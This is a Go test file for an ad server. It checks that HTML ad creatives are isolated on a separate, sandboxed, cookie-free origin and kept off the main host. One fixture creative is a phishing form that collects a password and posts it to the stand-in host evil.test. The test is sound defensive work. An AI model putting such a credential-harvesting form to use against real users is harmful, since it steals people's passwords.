package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// TestCreativeOrigin: with -creative-origin, an HTML creative's frame URL
// is on the creative origin; the frame is served there (sandboxed by its
// CSP, no cookie) and on no other host of the server, so an editor's HTML
// cannot pass for a page of the ad server's (a look-alike sign-in page at
// its address); the creative origin serves frames and tracking URLs only
// — not the console, the API or a session.
func TestCreativeOrigin(t *testing.T) {
	t.Parallel()
	in := start(t, t.TempDir(), nil, "-creative-origin", "http://Creatives.Test")
	flight := flightJSON(-time.Hour, 48*time.Hour)
	in.expect(in.admin("POST", "/api/v1/advertisers", `{"name":"Acme"}`), 201, "")
	in.expect(in.admin("POST", "/api/v1/placements", `{"name":"side"}`), 201, "")
	in.campaign(`{"advertiserId":"1","name":"c",` + flight + `}`)
	in.expect(in.admin("POST", "/api/v1/ad", `{"title":"a",`+flight+`,"campaignId":"1","creative":{"type":"html","width":300,"height":250,"html":"<form action=https://evil.test><input name=password></form>","clickUrl":"https://acme.test/"}}`), 201, "")
	r := in.do("POST", "/api/v1/decisions", "", "application/json", `{"placements":[{"div":"d","placement":"side"}]}`)
	var got struct {
		Decisions map[string][]struct{ FrameURL, ImpressionURL string }
	}
	if json.Unmarshal([]byte(r.body), &got); len(got.Decisions["d"]) != 1 || !strings.HasPrefix(got.Decisions["d"][0].FrameURL, "http://creatives.test/f/") {
		t.Fatalf("decision = %s; want a frame URL on http://creatives.test", r.body)
	}
	frame, _ := url.Parse(got.Decisions["d"][0].FrameURL)
	imp, _ := url.Parse(got.Decisions["d"][0].ImpressionURL)
	get := func(host, path string) (*http.Response, string) {
		t.Helper()
		req, _ := http.NewRequest("GET", in.url+path, nil)
		req.Host = host
		req.Header.Set("User-Agent", iphoneUA)
		resp, err := noRedirects.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	if resp, body := get("creatives.test", frame.RequestURI()); resp.StatusCode != 200 || !strings.Contains(body, "evil.test") ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") || len(resp.Cookies()) != 0 {
		t.Errorf("the frame on the creative origin = %d %q %v; want 200, sandboxed, no cookie", resp.StatusCode, resp.Header.Get("Content-Security-Policy"), resp.Cookies())
	}
	mainHost := strings.TrimPrefix(in.url, "http://")
	if resp, body := get(mainHost, frame.RequestURI()); resp.StatusCode != 404 || strings.Contains(body, "evil.test") {
		t.Errorf("the frame on the ad server's own host = %d %s; want 404", resp.StatusCode, body)
	}
	for _, path := range []string{"/admin/", "/api/v1/session", "/api/v1/ad/1", "/r/x"} {
		if resp, _ := get("creatives.test", path); resp.StatusCode != 404 {
			t.Errorf("%s on the creative origin = %d; want 404 (creatives only)", path, resp.StatusCode)
		}
	}
	if resp, _ := get("creatives.test", imp.RequestURI()); resp.StatusCode != 204 && resp.StatusCode != 200 {
		t.Errorf("the impression URL on the creative origin = %d; want counted", resp.StatusCode)
	}
	if r := run(t.Context(), []string{"serve", "-creative-origin", "https://x.test/path", "-addr", "127.0.0.1:0"}, func(string) string { return "" }, nil, io.Discard, io.Discard); r == nil ||
		!strings.Contains(r.Error(), "-creative-origin") {
		t.Errorf("-creative-origin with a path = %v; want a usage error naming it", r)
	}
}
